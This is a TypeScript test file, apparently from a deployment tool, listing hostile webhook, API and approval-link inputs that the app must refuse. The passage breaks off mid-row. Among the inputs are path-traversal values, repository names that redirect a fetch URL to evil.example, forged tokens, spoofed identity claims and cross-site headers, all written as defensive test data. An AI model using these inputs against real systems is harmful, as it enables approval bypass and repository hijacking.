// One table of hostile inputs (issue 10, item 7): webhooks, the operator API, approval links, uploaded
// archives, bundles and settings. Each row is refused with its status and code (or diagnostic code), and
// leaves nothing behind: no orchestration started, no event raised, no blob written to the storage account
// (no staged bundle, no decision), no file outside the extraction folder. Rows marked "finding:" are the
// holes issue 10 found by attacking the sandbox.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createListViewToken, createViewToken } from '../../src/approvals/approvalToken';
import { stagePlanBlobName } from '../../src/approvals/readStagePlan';
import { stagedBundleBlob } from '../../src/azure/ReleaseStorage';
import { validateBundle } from '../../src/manifest/validateBundle';
import { computePlan } from '../../src/planning/computePlan';
import { emptyLedger } from '../../src/planning/Ledger';
import { tarArchive, tarGz, zipArchive } from '../unit/sources/craftArchives';
import { baseEntries, file, json, SMALL_CLUSTER } from '../unit/manifest/bundleEntries';
import type { BadInputRow, Refusal } from './badInputs/BadInputRow';
import { BadInputWorld, SIGNING_KEY, SUBSCRIPTION } from './badInputs/BadInputWorld';
import {
  azureReposPush,
  basic,
  decide,
  deliverToGitHubWebhook,
  getReleaseById,
  githubPush,
  hmac,
  inHours,
  json as jsonBytes,
  notifyAzureDevOpsWebhook,
  openApprovalLink,
  openViewLink,
  postRelease,
  randomHex,
  releaseWaiting,
  signedIn,
  type Payload,
} from './badInputs/deliveries';
import { applyNotebooks, loadSettingsFrom, uploadArchive, validateEntries } from './badInputs/inputRunners';
import { zeroTarGz } from './badInputs/zeroBombs';
import { deletionExample, tagPushExample } from '../fixtures/webhooks/githubExamples';

let world: BadInputWorld;
beforeAll(async () => {
  world = await BadInputWorld.start();
});
afterAll(async () => {
  await world?.stop();
});

const MB = 1024 * 1024;
const STAGED = 'c'.repeat(64);

/** Runs the delivery with one app setting changed (or removed), as the next worker would read it. */
async function withSetting<T>(name: string, value: string | undefined, run: () => Promise<T>): Promise<T> {
  const saved = process.env[name];
  if (value === undefined) Reflect.deleteProperty(process.env, name);
  else process.env[name] = value;
  try {
    return await run();
  } finally {
    if (saved === undefined) Reflect.deleteProperty(process.env, name);
    else process.env[name] = saved;
  }
}

/** A bundle staged in the releases container, so that a request is judged on its other fields. */
async function stageBundle(w: BadInputWorld): Promise<void> {
  const releases = w.blobService.getContainerClient('bricklane-releases');
  await releases.createIfNotExists();
  await releases.getBlockBlobClient(stagedBundleBlob(STAGED)).upload('staged', 6);
}

const github = (delivery: Parameters<typeof deliverToGitHubWebhook>[1]) => () => (): Promise<Refusal> =>
  deliverToGitHubWebhook(world, delivery);
/** GitHub's push example, from another repository. */
function fromRepository(fullName: string): Payload {
  const push = githubPush();
  return { ...push, repository: { ...(push.repository as Payload), full_name: fullName } };
}
const githubSigned = (payload: Payload, event = 'push') => github({ event, body: jsonBytes(payload) });
const azureRepos = (delivery: Parameters<typeof notifyAzureDevOpsWebhook>[1]) => () => (): Promise<Refusal> =>
  notifyAzureDevOpsWebhook(world, delivery);
/** Microsoft's git.push with the row's change. */
function gitPush(change: (push: ReturnType<typeof azureReposPush>) => void): Buffer {
  const push = azureReposPush();
  change(push);
  return jsonBytes(push);
}
const operator =
  (body: unknown, headers: Record<string, string> = {}) =>
  async () => {
    await stageBundle(world);
    return (): Promise<Refusal> =>
      postRelease(world, typeof body === 'string' ? body : JSON.stringify(body), headers);
  };
/** The requester the last started release records. */
function requesterOfLastStart(w: BadInputWorld): string {
  const input = w.durable.starts.at(-1)?.input as { source?: { requestedBy?: string } } | undefined;
  return input?.source?.requestedBy ?? '(none)';
}
const staged = (fields: Record<string, unknown>): Record<string, unknown> => ({
  bundleId: STAGED,
  ...fields,
});

type DecisionInput = Parameters<typeof decide>[2];
/** A decision on a release waiting for `environment`, through a link made by `link` (default: valid). */
function decision(releaseId: string, environment: string, input: DecisionInput = {}) {
  return () => {
    const token = releaseWaiting(world, releaseId, environment);
    return (): Promise<Refusal> => decide(world, token, input);
  };
}
const archive = (bytes: () => Buffer, name?: string) => () => (): Promise<Refusal> =>
  uploadArchive(world, bytes(), name);
const bundle = (entries: () => Parameters<typeof validateEntries>[0]) => () => async (): Promise<Refusal> =>
  validateEntries(entries());
const settings = (values: Record<string, string>) => () => async (): Promise<Refusal> =>
  loadSettingsFrom({
    BRICKLANE_LEDGER_CONNECTION: 'UseDevelopmentStorage=true',
    BRICKLANE_DEV_SUBSCRIPTION_ID: SUBSCRIPTION,
    ...values,
  });

const SIGNATURE_MISMATCH = /X-Hub-Signature-256 does not match/;
const BASIC_FAILED = /Basic authentication failed/;
const ZEROS = '0000000000000000000000000000000000000000';

/** The valid base bundle with these bricklane.json options. */
function withOptions(options: Record<string, unknown>): ReturnType<typeof baseEntries> {
  return [...baseEntries(), json('bricklane.json', options)];
}

/** A job file: one notebook task on the bundle's Small cluster, with the row's fields on top. */
function job(name: string, fields: Record<string, unknown>): ReturnType<typeof json> {
  return json(`jobs/${name}.json`, {
    name,
    tasks: [{ task_key: 't', existing_cluster_id: 'Small', notebook_task: { notebook_path: 'etl/ingest' } }],
    ...fields,
  });
}

const ROWS: BadInputRow[] = [
  // ── GitHub webhook ────────────────────────────────────────────────────────────────────────────────
  {
    area: 'webhook',
    name: 'GitHub: signed with another secret',
    arrange: () => {
      const body = jsonBytes(githubPush());
      return () =>
        deliverToGitHubWebhook(world, { body, headers: { 'x-hub-signature-256': hmac(body, 'guess') } });
    },
    expected: { status: 401, says: SIGNATURE_MISMATCH },
  },
  {
    area: 'webhook',
    name: 'GitHub: body altered after signing',
    arrange: () => {
      const body = jsonBytes(githubPush());
      const signature = hmac(body);
      return () =>
        deliverToGitHubWebhook(world, {
          body: Buffer.from(body.toString().replace('refs/heads/main', 'refs/heads/mai_')),
          headers: { 'x-hub-signature-256': signature },
        });
    },
    expected: { status: 401, says: SIGNATURE_MISMATCH },
  },
  {
    area: 'webhook',
    name: 'GitHub: a body that is not UTF-8, signed',
    arrange: github({
      body: Buffer.concat([jsonBytes(githubPush()).subarray(0, 30), Buffer.from([0xff, 0xfe])]),
    }),
    expected: { status: 401, says: SIGNATURE_MISMATCH },
  },
  {
    area: 'webhook',
    name: 'GitHub: an empty sha256= signature',
    arrange: github({ body: jsonBytes(githubPush()), headers: { 'x-hub-signature-256': 'sha256=' } }),
    expected: { status: 401, says: SIGNATURE_MISMATCH },
  },
  {
    area: 'webhook',
    name: 'GitHub: a SHA-1 signature in the SHA-256 header',
    arrange: () => {
      const body = jsonBytes(githubPush());
      const sha1 = hmac(body).replace('sha256=', 'sha1=');
      return () => deliverToGitHubWebhook(world, { body, headers: { 'x-hub-signature-256': sha1 } });
    },
    expected: { status: 401, says: SIGNATURE_MISMATCH },
  },
  {
    area: 'webhook',
    name: 'GitHub: only the legacy X-Hub-Signature (SHA-1) header',
    arrange: github({
      body: jsonBytes(githubPush()),
      without: ['x-hub-signature-256'],
      headers: { 'x-hub-signature': 'sha1=0123' },
    }),
    expected: { status: 400, says: /missing header\(s\) x-hub-signature-256/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: no event and no delivery header',
    arrange: github({ body: jsonBytes(githubPush()), without: ['x-github-event', 'x-github-delivery'] }),
    expected: { status: 400, says: /missing header\(s\) x-github-event, x-github-delivery/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: form-encoded content type (the webhook default)',
    arrange: github({
      body: Buffer.from(`payload=${encodeURIComponent(JSON.stringify(githubPush()))}`),
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    }),
    expected: { status: 415, says: /not application\/json: set the webhook's Content type/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: text/plain content type',
    arrange: github({ body: jsonBytes(githubPush()), headers: { 'content-type': 'text/plain' } }),
    expected: { status: 415, says: /content type text\/plain is not application\/json/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: Content-Length over 1 MB',
    arrange: github({ body: jsonBytes(githubPush()), headers: { 'content-length': String(MB + 1) } }),
    expected: { status: 413, says: /payload over 1048576 bytes/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a body over 1 MB without a declared length',
    arrange: github({ body: jsonBytes({ ...githubPush(), padding: 'x'.repeat(MB) }) }),
    expected: { status: 413, says: /payload over 1048576 bytes/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a tag push',
    arrange: githubSigned(tagPushExample()),
    expected: { status: 202, says: /"ignored":true.*only pushes to branch main deploy/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: the deletion of main',
    arrange: githubSigned({ ...deletionExample(), ref: 'refs/heads/main' }),
    expected: { status: 202, says: /branch main was deleted: nothing to deploy/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a push to another branch',
    arrange: githubSigned({ ...githubPush(), ref: 'refs/heads/release/evil' }),
    expected: { status: 202, says: /push to branch release\/evil: only pushes to branch main deploy/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a push to main without a head commit',
    arrange: githubSigned({ ...githubPush(), after: ZEROS }),
    expected: { status: 202, says: /has no head commit: nothing to deploy/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: an event other than push',
    arrange: githubSigned({ action: 'opened' }, 'issues'),
    expected: { status: 202, says: /event issues is not handled/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: signed text that is not JSON',
    arrange: github({ body: Buffer.from('{"ref": "refs/heads/main",') }),
    expected: { status: 400, says: /the body is not JSON/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a signed JSON array',
    arrange: githubSigned([githubPush()] as unknown as Payload),
    expected: { status: 400, says: /not a GitHub push payload: payload/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a push whose head commit is not a commit id',
    arrange: githubSigned({ ...githubPush(), after: '../../../etc/passwd' }),
    expected: { status: 400, says: /is not a commit sha/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a push without a repository',
    arrange: githubSigned({ ...githubPush(), repository: undefined }),
    expected: { status: 400, says: /not a GitHub push payload: repository/ },
  },
  {
    area: 'webhook',
    name: 'finding: GitHub: a signed push from another repository (an organization webhook, a reused secret)',
    arrange: githubSigned(fromRepository('mallory/evil')),
    expected: { status: 403, says: /comes from repository mallory\/evil, not from Codertocat\/Hello-World/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a repository full_name that is a path',
    arrange: githubSigned(fromRepository('../../Codertocat/Hello-World')),
    expected: { status: 400, says: /repository\.full_name: must be owner\/repository/ },
  },
  {
    area: 'webhook',
    name: 'GitHub: a delivery while no secret is configured',
    arrange: () => () =>
      withSetting('BRICKLANE_GITHUB_WEBHOOK_SECRET', undefined, () =>
        deliverToGitHubWebhook(world, { body: jsonBytes(githubPush()) }),
      ),
    expected: { status: 503, says: /set the app setting BRICKLANE_GITHUB_WEBHOOK_SECRET/ },
  },

  // ── Azure Repos service hook ──────────────────────────────────────────────────────────────────────
  {
    area: 'webhook',
    name: 'Azure Repos: a wrong password',
    arrange: azureRepos({
      body: jsonBytes(azureReposPush()),
      headers: { authorization: basic(undefined, 'guess') },
    }),
    expected: { status: 401, says: BASIC_FAILED },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a wrong user name',
    arrange: azureRepos({ body: jsonBytes(azureReposPush()), headers: { authorization: basic('someone') } }),
    expected: { status: 401, says: BASIC_FAILED },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: no credentials',
    arrange: azureRepos({ body: jsonBytes(azureReposPush()), without: ['authorization'] }),
    expected: { status: 401, says: BASIC_FAILED },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: the password as a bearer token',
    arrange: azureRepos({
      body: jsonBytes(azureReposPush()),
      headers: { authorization: 'Bearer hook-password' },
    }),
    expected: { status: 401, says: BASIC_FAILED },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: Basic credentials that are not base64',
    arrange: azureRepos({ body: jsonBytes(azureReposPush()), headers: { authorization: 'Basic ::::' } }),
    expected: { status: 401, says: BASIC_FAILED },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a push from another organization',
    arrange: azureRepos({
      body: gitPush((p) => {
        for (const container of Object.values(p.resourceContainers))
          container.baseUrl = 'https://dev.azure.com/evil/';
      }),
    }),
    expected: { status: 403, says: /not from the configured organization/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a repository URL in another organization',
    arrange: azureRepos({
      body: gitPush((p) => {
        p.resource.repository.url = `https://dev.azure.com/evil/_apis/git/repositories/${p.resource.repository.id}`;
      }),
    }),
    expected: { status: 403, says: /evil/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: text/plain content type',
    arrange: azureRepos({ body: jsonBytes(azureReposPush()), headers: { 'content-type': 'text/plain' } }),
    expected: { status: 415, says: /use the Web Hooks service hook, which posts JSON/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a notification over 1 MB',
    arrange: azureRepos({ body: jsonBytes({ ...azureReposPush(), padding: 'x'.repeat(MB) }) }),
    expected: { status: 413, says: /payload over 1048576 bytes/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a repository id that is a path',
    arrange: azureRepos({ body: gitPush((p) => (p.resource.repository.id = '../../other')) }),
    expected: { status: 400, says: /resource\.repository\.id: must be a repository id \(a GUID\)/ },
  },
  {
    area: 'webhook',
    name: 'finding: Azure Repos: a project named ".." (the fetch URL would leave the organization)',
    arrange: azureRepos({ body: gitPush((p) => (p.resource.repository.project.name = '..')) }),
    expected: { status: 400, says: /resource\.repository\.project\.name/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a project named "."',
    arrange: azureRepos({ body: gitPush((p) => (p.resource.repository.project.name = '.')) }),
    expected: { status: 400, says: /resource\.repository\.project\.name/ },
  },
  {
    area: 'webhook',
    name: 'finding: Azure Repos: project "https:" with repository "//evil.example/_git/x"',
    arrange: azureRepos({
      body: gitPush((p) => {
        p.resource.repository.project.name = 'https:';
        p.resource.repository.name = '//evil.example/_git/x';
      }),
    }),
    expected: { status: 400, says: /resource\.repository\.project\.name: \\"https:\\" must not contain/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a repository named ".."',
    arrange: azureRepos({ body: gitPush((p) => (p.resource.repository.name = '..')) }),
    expected: { status: 400, says: /resource\.repository\.name/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: text that is not JSON',
    arrange: azureRepos({ body: Buffer.from('{"eventType": "git.push",') }),
    expected: { status: 400, says: /the body is not JSON/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a push to another branch',
    arrange: azureRepos({
      body: gitPush(
        (p) => (p.resource.refUpdates = p.resource.refUpdates.map((u) => ({ ...u, name: 'refs/heads/x' }))),
      ),
    }),
    expected: { status: 202, says: /push to refs\/heads\/x: only pushes to branch main deploy/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: the deletion of main',
    arrange: azureRepos({
      body: gitPush(
        (p) =>
          (p.resource.refUpdates = [
            { name: 'refs/heads/main', oldObjectId: 'a'.repeat(40), newObjectId: ZEROS },
          ]),
      ),
    }),
    expected: { status: 202, says: /branch main was deleted/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: an event other than git.push',
    arrange: azureRepos({ body: gitPush((p) => (p.eventType = 'git.pullrequest.created')) }),
    expected: { status: 202, says: /is not git\.push/ },
  },
  {
    area: 'webhook',
    name: 'Azure Repos: a notification while the hook is not configured',
    arrange: () => () =>
      withSetting('BRICKLANE_AZURE_DEVOPS_HOOK_PASSWORD', undefined, () =>
        notifyAzureDevOpsWebhook(world, { body: jsonBytes(azureReposPush()) }),
      ),
    expected: { status: 503, says: /the Azure Repos service hook is not configured/ },
  },

  // ── Operator API: POST /api/releases, GET /api/releases/{id} ─────────────────────────────────────
  {
    area: 'operator API',
    name: 'finding: POST /api/releases with commit "?a=b#/../."',
    arrange: operator(staged({ commit: '?a=b#/../.' })),
    expected: { code: 'commit', status: 400, says: /commit.*7 to 40 hexadecimal/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a commit that is not hex',
    arrange: operator(staged({ commit: 'zzzzzzz' })),
    expected: { code: 'commit', status: 400, says: /commit.*hexadecimal/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a 6-character commit',
    arrange: operator(staged({ commit: 'abcdef' })),
    expected: { code: 'commit', status: 400, says: /commit.*7 to 40/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a 41-character commit',
    arrange: operator(staged({ commit: 'a'.repeat(41) })),
    expected: { code: 'commit', status: 400, says: /commit.*7 to 40/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a bundleId that is a path',
    arrange: operator({ bundleId: '../../bundles/x' }),
    expected: { code: 'bundleId', status: 400, says: /bundleId/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with an upper-case bundleId',
    arrange: operator({ bundleId: 'C'.repeat(64) }),
    expected: { code: 'bundleId', status: 400, says: /bundleId/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases without a bundleId',
    arrange: operator({ environments: ['dev'] }),
    expected: { code: 'bundleId', status: 400, says: /bundleId/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a bundle that is not staged',
    arrange: operator({ bundleId: 'd'.repeat(64) }),
    expected: { status: 404, says: /is not staged/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases for an unknown environment',
    arrange: operator(staged({ environments: ['staging'] })),
    expected: { code: 'environments', status: 400, says: /staging/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases from an unknown environment',
    arrange: operator(staged({ from: 'preprod' })),
    expected: { code: 'from', status: 400, says: /preprod/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with an extra field',
    arrange: operator(staged({ approvals: { qa: { required: false } } })),
    expected: { code: 'approvals', status: 400, says: /approvals/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a body over 16 KB',
    arrange: operator(staged({ ref: 'x'.repeat(17_000) })),
    expected: { code: 'body', status: 413, says: /over 16 KB/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a body that is not JSON',
    arrange: operator('bundleId=cccc'),
    expected: { status: 400, says: /body must be JSON/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a JSON array',
    arrange: operator([staged({})]),
    expected: { code: 'body', status: 400, says: /body/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a rerun label over 64 characters',
    arrange: operator(staged({ rerun: 'r'.repeat(65) })),
    expected: { code: 'rerun', status: 400, says: /rerun/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a rerun label the Durable extension refuses',
    arrange: operator(staged({ rerun: 'a/b#c' })),
    expected: { code: 'rerun', status: 400, says: /rerun|instance id/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a ref over 256 characters',
    arrange: operator(staged({ ref: `refs/heads/${'x'.repeat(250)}` })),
    expected: { code: 'ref', status: 400, says: /ref/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases with a ref that git refuses',
    arrange: operator(staged({ ref: 'refs/heads/main~1^{commit}' })),
    expected: { code: 'ref', status: 400, says: /ref must be a git ref/ },
  },
  {
    area: 'operator API',
    name: 'POST /api/releases naming more than 16 environments',
    arrange: operator(staged({ environments: Array.from({ length: 17 }, () => 'dev') })),
    expected: { code: 'environments', status: 400, says: /at most 16/ },
  },
  {
    area: 'operator API',
    name: 'finding: POST /api/releases names its requester in x-ms-client-principal-name with App Service Authentication off',
    arrange: async (w) => {
      await stageBundle(w);
      const body = JSON.stringify(staged({ commit: randomHex(40) }));
      return () =>
        withSetting('WEBSITE_AUTH_ENABLED', undefined, async () => {
          const answer = await postRelease(w, body, { 'x-ms-client-principal-name': 'ceo@contoso.com' });
          return { ...answer, text: `${answer.text} requestedBy=${requesterOfLastStart(w)}` };
        });
    },
    expected: {
      status: 202,
      startsOne: true,
      says: /requestedBy=function key holder$/,
      never: /ceo@contoso/,
    },
  },
  ...(
    [
      ['a "#"', 'rel#1'],
      ['a "?"', 'rel?x=1'],
      ['a leading "@"', '@rel'],
      ['a control character', 'rel\u0007bell'],
      ['a backslash', 'rel\\..\\x'],
      ['129 characters', 'r'.repeat(129)],
    ] as const
  ).map(([what, id]): BadInputRow => ({
    area: 'operator API',
    name: `GET /api/releases/{id} with ${what} in the id (the Durable extension refuses it)`,
    arrange: (w) => () => getReleaseById(w, id, { accept: 'application/json' }),
    expected: { code: 'id', status: 400, says: /"rule":"1 to 128 characters/ },
  })),
  {
    area: 'operator API',
    name: 'finding: the status page opened with ?code= puts the function key in no link',
    arrange: (w) => {
      releaseWaiting(w, 'rel-key', 'qa');
      return () => getReleaseById(w, 'rel-key', { query: '?code=function-key-7d1e' });
    },
    expected: { status: 200, says: /rel-key.*\[link /, never: /function-key-7d1e/ },
  },
  {
    area: 'operator API',
    name: 'the missing-release page opened with ?code= puts the function key in no link',
    arrange: (w) => () => getReleaseById(w, 'rel-never', { query: '?code=function-key-7d1e' }),
    expected: { status: 404, says: /rel-never/, never: /function-key-7d1e/ },
  },
  {
    area: 'approval link',
    name: 'view link signed with another key',
    arrange: (w) => {
      releaseWaiting(w, 'rel-view-forged', 'qa');
      const token = createViewToken({ releaseId: 'rel-view-forged', expiresAt: inHours(1) }, [
        'f'.repeat(40),
      ]);
      return () => openViewLink(w, token);
    },
    expected: { code: 'token', status: 403, says: /not issued by this bricklane app/ },
  },
  {
    area: 'approval link',
    name: 'view link that has expired',
    arrange: (w) => {
      releaseWaiting(w, 'rel-view-expired', 'qa');
      const token = createViewToken({ releaseId: 'rel-view-expired', expiresAt: inHours(-1) }, [SIGNING_KEY]);
      return () => openViewLink(w, token);
    },
    expected: { code: 'token', status: 410, says: /expired/ },
  },
  {
    area: 'approval link',
    name: 'an approval link used as a view link',
    arrange: (w) => {
      const token = releaseWaiting(w, 'rel-view-approval', 'qa');
      return () => openViewLink(w, token);
    },
    expected: {
      code: 'token',
      status: 403,
      says: /This status page link was not issued by this bricklane app/,
    },
  },
  {
    area: 'approval link',
    name: 'list view link that has expired',
    arrange: (w) => () => openViewLink(w, createListViewToken({ expiresAt: inHours(-1) }, [SIGNING_KEY])),
    expected: { code: 'token', status: 410, says: /expired/ },
  },
  {
    area: 'approval link',
    name: 'list view link signed with another key',
    arrange: (w) => () => openViewLink(w, createListViewToken({ expiresAt: inHours(1) }, ['f'.repeat(40)])),
    expected: { code: 'token', status: 403, says: /not issued by this bricklane app/ },
  },
  {
    area: 'approval link',
    name: 'a list view link used to decide',
    arrange: (w) => {
      releaseWaiting(w, 'rel-list-decide', 'qa');
      return () => decide(w, createListViewToken({ expiresAt: inHours(1) }, [SIGNING_KEY]));
    },
    expected: { status: 403, says: /This approval link was not issued by this bricklane app/ },
  },
  {
    area: 'approval link',
    name: 'a release view link used to decide',
    arrange: (w) => {
      releaseWaiting(w, 'rel-view-decide', 'qa');
      return () =>
        decide(w, createViewToken({ releaseId: 'rel-view-decide', expiresAt: inHours(1) }, [SIGNING_KEY]));
    },
    expected: { status: 403, says: /This approval link was not issued by this bricklane app/ },
  },
  {
    area: 'operator API',
    name: 'finding: GET /api/releases/{id} of a release recorded with project "https:" and repository "//evil.example/_git/x" links nowhere but the organization',
    arrange: (w) => {
      releaseWaiting(w, 'rel-evil-link', 'qa', {}, undefined, {
        kind: 'azureRepos',
        commit: 'a1b2c3d4e5f6',
        repository: 'https:////evil.example/_git/x',
      });
      return () => getReleaseById(w, 'rel-evil-link');
    },
    expected: { status: 200, says: /rel-evil-link/, never: /\[link [^\]]*evil\.example/ },
  },

  // ── Approval links ────────────────────────────────────────────────────────────────────────────────
  {
    area: 'approval link',
    name: 'decision with a forged link (signed with another key)',
    arrange: () => {
      releaseWaiting(world, 'rel-forged', 'prod');
      const forged = releaseWaiting(world, 'rel-forged', 'prod', {}, ['f'.repeat(40)]);
      return () => decide(world, forged);
    },
    expected: { status: 403, says: /was not issued by this bricklane app/ },
  },
  {
    area: 'approval link',
    name: 'decision with a link whose payload was edited',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-edited', 'qa');
      const [, mac] = token.split('.');
      const payload = Buffer.from(
        JSON.stringify({ v: 1, r: 'rel-edited', e: 'prod', x: inHours(72) }),
      ).toString('base64url');
      return () => decide(world, `${payload}.${mac}`);
    },
    expected: { status: 403, says: /was not issued by this bricklane app/ },
  },
  {
    area: 'approval link',
    name: 'decision with an expired link',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-expired', 'prod', { expiresAt: inHours(-1) });
      return () => decide(world, token);
    },
    expected: { status: 410, says: /This approval link has expired/ },
  },
  {
    area: 'approval link',
    name: 'decision with a malformed link',
    arrange: () => () => decide(world, 'x.y'),
    expected: { status: 400, says: /incomplete or damaged/ },
  },
  {
    area: 'approval link',
    name: 'page of a malformed link',
    arrange: () => () => openApprovalLink(world, 'not-a-token'),
    expected: { status: 400, says: /incomplete or damaged/ },
  },
  {
    area: 'approval link',
    name: 'decision replayed after the approval',
    arrange: async (w) => {
      const token = releaseWaiting(w, 'rel-replayed', 'prod');
      expect((await decide(w, token)).status).toBe(200);
      return () => decide(w, token, { body: 'decision=reject' });
    },
    expected: { status: 409, says: /Already decided/ },
  },
  {
    area: 'approval link',
    name: 'decision with the link of an earlier wait of the same release',
    arrange: () => {
      const earlier = releaseWaiting(world, 'rel-rerun', 'prod', { expiresAt: inHours(1) });
      releaseWaiting(world, 'rel-rerun', 'prod', { expiresAt: inHours(72) });
      return () => decide(world, earlier);
    },
    expected: { status: 410, says: /belongs to an earlier approval request/ },
  },
  {
    area: 'approval link',
    name: 'decision with a link for another environment than the one waiting',
    arrange: () => {
      const prod = releaseWaiting(world, 'rel-other-env', 'prod');
      releaseWaiting(world, 'rel-other-env', 'qa');
      return () => decide(world, prod);
    },
    expected: { status: 409, says: /is not waiting for approval of prod/ },
  },
  {
    area: 'approval link',
    name: 'decision with a link for another release (one that does not exist)',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-elsewhere', 'prod');
      world.durable.instances.delete('rel-elsewhere');
      return () => decide(world, token);
    },
    expected: { status: 404, says: /Release rel-elsewhere does not exist/ },
  },
  {
    area: 'approval link',
    name: 'decision for a release that is no longer running',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-terminated', 'prod');
      const instance = world.durable.instances.get('rel-terminated');
      if (instance) instance.runtimeStatus = 'Terminated';
      return () => decide(world, token);
    },
    expected: { status: 409, says: /has finished \(Terminated\); it no longer waits for prod/ },
  },
  {
    area: 'approval link',
    name: 'wrong method: a GET with ?decision=approve shows the page and decides nothing',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-get', 'prod');
      return () => openApprovalLink(world, token, {}, '?decision=approve');
    },
    expected: { status: 200, says: /Deploy to Prod\?/ },
  },
  {
    area: 'approval link',
    name: 'finding: the page of a plan that creates a job with run_as and IS_OWNER shows both, and decides nothing',
    arrange: async (w) => {
      const token = releaseWaiting(w, 'rel-safety', 'prod');
      const { bundle } = validateBundle('/bundle', [
        ...baseEntries(),
        job('evil_job', {
          run_as: { user_name: 'etl-runner@contoso.com' },
          access_control_list: [{ user_name: 'mallory@evil.example', permission_level: 'IS_OWNER' }],
        }),
      ]);
      if (!bundle) throw new Error('the row needs a valid bundle');
      const plan = JSON.stringify(computePlan(bundle, { clusters: [], jobs: [] }, emptyLedger('prod')));
      const releases = w.blobService.getContainerClient('bricklane-releases');
      await releases.createIfNotExists();
      await releases
        .getBlockBlobClient(stagePlanBlobName('rel-safety', 'prod'))
        .upload(plan, Buffer.byteLength(plan));
      return () => openApprovalLink(w, token);
    },
    expected: { status: 200, says: /Runs as.*etl-runner@contoso\.com.*mallory@evil\.example.*IS_OWNER/ },
  },
  {
    area: 'approval link',
    name: 'decision from a cross-site Origin',
    arrange: decision('rel-cross-origin', 'prod', { headers: { origin: 'https://evil.example' } }),
    expected: { status: 403, says: /accepted only from the approval page itself/ },
  },
  {
    area: 'approval link',
    name: 'decision from a cross-site form (Sec-Fetch-Site)',
    arrange: decision('rel-cross-site', 'prod', { headers: { 'sec-fetch-site': 'cross-site' } }),
    expected: { status: 403, says: /accepted only from the approval page itself/ },
  },
  {
    area: 'approval link',
    name: 'decision without sign-in where the environment has an allow-list',
    arrange: decision('rel-signed-out', 'qa'),
    expected: { status: 403, says: /Only named approvers may decide for qa/ },
  },
  {
    area: 'approval link',
    name: 'decision by a signed-in user who is not on the allow-list',
    arrange: decision('rel-stranger', 'qa', {
      headers: signedIn('mallory@contoso.com', { preferred_username: 'mallory@contoso.com' }),
    }),
    expected: { status: 403, says: /mallory@contoso\.com is not an approver for qa/ },
  },
  {
    area: 'approval link',
    name: 'finding: decision by mallory whose e-mail claims say alice (an allow-listed approver)',
    arrange: decision('rel-email-spoof', 'qa', {
      headers: signedIn('alice@contoso.com', {
        upn: 'mallory@contoso.com',
        email: 'alice@contoso.com',
        emails: 'alice@contoso.com',
        preferred_username: 'alice@contoso.com',
        name: 'alice@contoso.com',
      }),
    }),
    expected: { status: 403, says: /is not an approver for qa/ },
  },
  {
    area: 'approval link',
    name: "decision by alice's UPN signed in by another identity provider",
    arrange: decision('rel-other-idp', 'qa', {
      headers: signedIn('alice@contoso.com', { upn: 'alice@contoso.com' }, 'github'),
    }),
    expected: { status: 403, says: /is not an approver for qa/ },
  },
  {
    area: 'approval link',
    name: 'decision with only a name header, no principal',
    arrange: decision('rel-name-only', 'qa', {
      headers: { 'x-ms-client-principal-name': 'alice@contoso.com' },
    }),
    expected: { status: 403, says: /is not an approver for qa/ },
  },
  {
    area: 'approval link',
    name: 'finding: decision with Origin: null (a sandboxed frame, a data: URL)',
    arrange: decision('rel-origin-null', 'prod', { headers: { origin: 'null' } }),
    expected: { status: 403, says: /accepted only from the approval page itself/ },
  },
  {
    area: 'approval link',
    name: 'decision from a same-site page (Sec-Fetch-Site: same-site)',
    arrange: decision('rel-same-site', 'prod', { headers: { 'sec-fetch-site': 'same-site' } }),
